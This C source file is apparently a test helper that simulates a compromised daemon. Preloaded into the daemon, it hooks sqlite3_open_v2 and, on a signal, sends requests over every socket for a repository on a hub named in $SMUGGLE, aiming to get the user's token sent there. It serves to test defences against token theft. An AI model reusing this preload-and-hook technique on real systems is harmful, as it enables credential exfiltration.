/* SPDX-License-Identifier: Apache-2.0 */
/*
 * smuggle - what an attacker who has taken over the daemon would ask its ckptfs-fetch for. It is
 * preloaded into the daemon. On SIGUSR2 it sends WIRE_OPEN over each of the daemon's sockets, for a
 * repository of a hub at $SMUGGLE, which would get the user's token. Then it names its thread
 * "smuggled 1", the next time "smuggled 2". With $SMUGGLE_EARLY, a command does so when it opens or
 * makes a chunk index.
 */
#include "source/wire.h"

#include <dlfcn.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/stat.h>

static char text[4096];
static size_t len;

static void on_signal(int sig)
{
	static int times;
	char name[16];

	(void)sig;
	for (int fd = 3; fd < 256; fd++) {
		struct wire_head h = { .kind = WIRE_OPEN, .id = 0xf0000000 };
		struct stat st;

		if (!fstat(fd, &st) && S_ISSOCK(st.st_mode))
			(void)wire_send_how(fd, &h, text, len, -1, MSG_DONTWAIT);
	}
	(void)snprintf(name, sizeof(name), "smuggled %d", ++times);
	(void)prctl(PR_SET_NAME, name, 0, 0, 0);
}

__attribute__((constructor)) static void prepare(void)
{
	const char *hub = getenv("SMUGGLE");
	struct sigaction a = { .sa_handler = on_signal, .sa_flags = SA_RESTART };

	if (!hub)
		return;
	/* Address, endpoint, region, profile. */
	len = (size_t)snprintf(text, sizeof(text), "hf://a/b%c%s%c%c", 0, hub, 0, 0) + 1;
	(void)sigaction(SIGUSR2, &a, NULL);
}

int sqlite3_open_v2(const char *name, void **ret, int flags, const char *vfs);
int sqlite3_open_v2(const char *name, void **ret, int flags, const char *vfs)
{
	int (*next)(const char *, void **, int, const char *) =
		(int (*)(const char *, void **, int, const char *))dlsym(RTLD_NEXT,
									 "sqlite3_open_v2");

	if (getenv("SMUGGLE_EARLY"))
		on_signal(0);
	return next(name, ret, flags, vfs);
}
